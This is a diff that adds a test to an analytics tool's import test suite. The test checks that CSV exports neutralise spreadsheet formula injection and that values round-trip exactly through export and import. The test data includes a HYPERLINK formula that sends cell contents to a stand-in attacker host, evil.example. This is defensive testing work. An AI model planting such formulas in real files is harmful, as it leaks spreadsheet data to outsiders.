@@ -116,6 +116,39 @@ describe('npm run import (tools/import.mjs): an export of a project imported int
     expect(await answers(target.rk)).toEqual(await answers(origin.rk));
   }, 120_000);
 
+  it("csv: values a spreadsheet would run as formulas leave with the export's ' in front and come back exactly as sent", async () => {
+    const source = await project('formulas-origin');
+    const leads = ['=', '+', '-', '@', '\t', '\r', "'=", "''@", "'", 'a='];
+    const events = leads.map((lead, i) => ({
+      event: `${lead}HYPERLINK("https://evil.example/?x="&A1)`,
+      event_id: `${lead}id-${i}`,
+      timestamp: new Date(D0 + i * 60_000).toISOString(),
+      anonymous_id: `${lead}anon-${i}`,
+      user_id: `${lead}user-${i}`,
+      session_id: `${lead}sess-${i}`,
+      path: `${lead}path-${i}`,
+      referrer: `${lead}ref-${i}`,
+      url: `${ORIGIN}/?utm_source=${encodeURIComponent(`${lead}src`)}&utm_campaign=${encodeURIComponent(`${lead}camp`)}`,
+    }));
+    const res = await request(server).post('/v1/batch').set('authorization', `Bearer ${source.sk}`).send({ events });
+    expect(res.status).toBe(202);
+    const file = await exportTo(source.rk, 'csv');
+    // The file itself is safe to open in a spreadsheet: the guard is on the cells.
+    expect(readFileSync(file, 'utf8')).toContain(`"'=HYPERLINK(`);
+    const target = await project('formulas-target');
+    await importFile(target.sk, file);
+    const rowsOf = async (key: string) => {
+      const got = (await request(readApp).get('/v1/query').set('authorization', `Bearer ${key}`).query({ from: FROM, to: TO, limit: 1000 })).body.rows as Array<Record<string, string | null>>;
+      const kept = ['timestamp', 'event_id', 'event_name', 'anonymous_id', 'user_id', 'session_id', 'path', 'referrer', 'source', 'campaign'];
+      return got.map((r) => Object.fromEntries(kept.map((k) => [k, r[k]]))).sort((x, y) => (x.timestamp! < y.timestamp! ? -1 : 1));
+    };
+    const sent = await rowsOf(source.rk);
+    expect(sent.map((r) => r.event_name)).toEqual(events.map((e) => e.event));
+    // utm_source as the classifier keeps it (trimmed): through a site's public key, a formula in the source column too.
+    expect(sent.map((r) => r.source)).toEqual(leads.map((l) => `${l.trim()}src`));
+    expect(await rowsOf(target.rk)).toEqual(sent);
+  }, 120_000);
+
   it('resumes after a refused batch from the last acknowledged one, and deletes its state when done', async () => {
     const file = await exportTo(origin.rk, 'ndjson');
     const original = readFileSync(file);
